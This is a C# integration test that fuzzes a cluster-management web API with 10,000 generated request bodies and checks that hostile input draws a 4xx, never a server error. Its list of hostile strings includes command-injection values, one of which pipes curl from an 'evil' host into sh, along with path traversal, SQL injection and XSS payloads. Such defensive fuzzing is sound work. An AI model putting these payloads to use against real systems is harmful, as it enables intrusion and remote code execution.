using System.Net.Http.Headers;
using System.Reflection;
using System.Text;
using System.Text.Json.Nodes;
using KubeHa.Core.Clusters;
using KubeHa.Web.Tests.Infrastructure;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;

namespace KubeHa.Web.Tests.Security;

/// <summary>
/// 10,000 generated bodies posted (and put) to every API endpoint that takes a request, as the administrator, so
/// every handler and validator is reached: random property names from the request types, hostile strings (shell
/// metacharacters, newlines, NUL, scope ids, octal, unicode), wrong types, huge numbers, deep nesting, broken JSON,
/// wrong content types. Bad input must be refused with a 4xx, never a 5xx. Seeded, so a failure repeats.
/// </summary>
[Trait("Category", "Integration")]
public sealed class ApiFuzzTests : IDisposable
{
    private const int Bodies = 10_000;

    private static readonly string[] HostileStrings =
    [
        "", " ", "a", "n1", "root", "10.0.0.1", "fe80::1%$(id)", "::ffff:10.1.1.5%;curl${IFS}evil|sh;#", "010.0.0.1", "0xa.0xf4.0.0/16",
        "w1;touch pwned;#", "$(id)", "`id`", "a'b\"c", "line1\nline2", "tab\there", "nul\0byte", "\u202eevil", "名前", "🙂🙂",
        "../../etc/passwd", "%00", "%", "' OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}", "SHA256:abc", "password", "private-key",
        "create", "reset", "add-nodes", "webhook", "email", "https://example.invalid/hook", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----",
        new string('x', 70_000), "1e309", "NaN", "-1", "99999999999999999999",
    ];

    private readonly KubeHaAppFactory _app = new(null, settings: new Dictionary<string, string?>
    {
        // Nothing generated here may run: no worker takes the host checks and runs some bodies create.
        ["KubeHa:Agent:Embedded"] = "false",
    });

    public void Dispose() => _app.Dispose();

    [Fact]
    public async Task Post_TenThousandGeneratedBodies_NoServerError()
    {
        using var client = TestUsers.BearerClient(_app, await TestUsers.TokenAsync(_app, "admin", "fuzz"));
        var endpoints = Endpoints();
        Assert.NotEmpty(endpoints);
        var names = PropertyNames();
        var random = new Random(20261205);
        var failures = new List<string>();
        var statuses = new Dictionary<int, int>();

        for (var i = 0; i < Bodies; i++)
        {
            var (method, pattern) = endpoints[random.Next(endpoints.Count)];
            var path = pattern.Replace("{id:int}", Id(random), StringComparison.Ordinal).Replace("{id:long}", Id(random), StringComparison.Ordinal);
            using var request = new HttpRequestMessage(new HttpMethod(method), path) { Content = Body(random, names) };
            using var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            statuses[status] = statuses.GetValueOrDefault(status) + 1;
            if (status >= 500 && failures.Count < 20)
            {
                var sent = await request.Content!.ReadAsStringAsync();
                failures.Add($"{method} {path} {request.Content.Headers.ContentType} -> {status}: {Cut(sent)} => {Cut(await response.Content.ReadAsStringAsync())}");
            }
        }

        Assert.True(failures.Count == 0, string.Join("\n", failures));
        Assert.True(statuses.Keys.Any(s => s < 300), "no body was ever accepted: the generator only reaches validation");
        Assert.DoesNotContain(_app.LogMessages, m => m.Contains("An unhandled exception", StringComparison.Ordinal));
    }

    private static string Id(Random random) => random.Next(4) switch
    {
        0 => "999999",
        _ => random.Next(1, 4).ToString(System.Globalization.CultureInfo.InvariantCulture),
    };

    private static HttpContent Body(Random random, IReadOnlyList<string> names)
    {
        var roll = random.Next(100);
        if (roll < 75)
        {
            return Json(RandomObject(random, names, depth: 0).ToJsonString());
        }

        if (roll < 80)
        {
            var valid = RandomObject(random, names, depth: 0).ToJsonString();
            return Json(valid[..random.Next(valid.Length)]); // truncated
        }

        if (roll < 85)
        {
            return Json(RandomValue(random, names, depth: 3)?.ToJsonString() ?? "null");
        }

        if (roll < 88)
        {
            var depth = random.Next(60, 300);
            return Json(string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth));
        }

        var bytes = new byte[random.Next(0, 2048)];
        random.NextBytes(bytes);
        var content = new ByteArrayContent(bytes);
        content.Headers.TryAddWithoutValidation("Content-Type", random.Next(5) switch
        {
            0 => "text/plain; charset=utf-7",
            1 => "text/plain",
            2 => "application/x-www-form-urlencoded",
            3 => "application/json; charset=latin1",
            _ => "multipart/form-data; boundary=x",
        });
        return content;
    }

    private static StringContent Json(string text) => new(text, Encoding.UTF8, new MediaTypeHeaderValue("application/json"));

    private static JsonObject RandomObject(Random random, IReadOnlyList<string> names, int depth)
    {
        var obj = new JsonObject();
        var count = random.Next(0, 8);
        for (var i = 0; i < count; i++)
        {
            var name = random.Next(10) == 0 ? HostileStrings[random.Next(HostileStrings.Length)] : names[random.Next(names.Count)];
            obj[name] = RandomValue(random, names, depth + 1);
        }

        return obj;
    }

    private static JsonNode? RandomValue(Random random, IReadOnlyList<string> names, int depth) => random.Next(depth > 3 ? 8 : 11) switch
    {
        0 => null,
        1 => JsonValue.Create(random.Next(2) == 0),
        2 => JsonValue.Create(random.Next(-2, 70_000)),
        3 => JsonValue.Create(random.Next(3) switch { 0 => long.MaxValue, 1 => long.MinValue, _ => int.MaxValue + 1L }),
        4 => JsonValue.Create(random.NextDouble() * 1e300),
        5 or 6 or 7 => JsonValue.Create(HostileStrings[random.Next(HostileStrings.Length)]),
        8 => new JsonArray(Enumerable.Range(0, random.Next(4)).Select(_ => RandomValue(random, names, depth + 1)).ToArray()),
        _ => RandomObject(random, names, depth),
    };

    /// <summary>Every POST and PUT under /api, from the app's own endpoint list.</summary>
    private List<(string Method, string Pattern)> Endpoints()
        => _app.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Where(e => e.RoutePattern.RawText!.StartsWith("/api/", StringComparison.Ordinal))
            .SelectMany(e => (e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods ?? []).Where(m => m is "POST" or "PUT").Select(m => (m, e.RoutePattern.RawText!)))
            .ToList();

    /// <summary>The camelCase property names of every request type of the API and of the cluster spec.</summary>
    private static List<string> PropertyNames()
        => typeof(KubeHa.Web.Api.ApiResults).Assembly.GetTypes()
            .Where(t => t.Namespace == "KubeHa.Web.Api" && t.Name.EndsWith("Request", StringComparison.Ordinal))
            .Append(typeof(ClusterSpec))
            .SelectMany(t => t.GetProperties(BindingFlags.Public | BindingFlags.Instance))
            .Select(p => System.Text.Json.JsonNamingPolicy.CamelCase.ConvertName(p.Name))
            .Distinct()
            .ToList();

    private static string Cut(string text) => text.Length > 300 ? text[..300] + "..." : text;
}
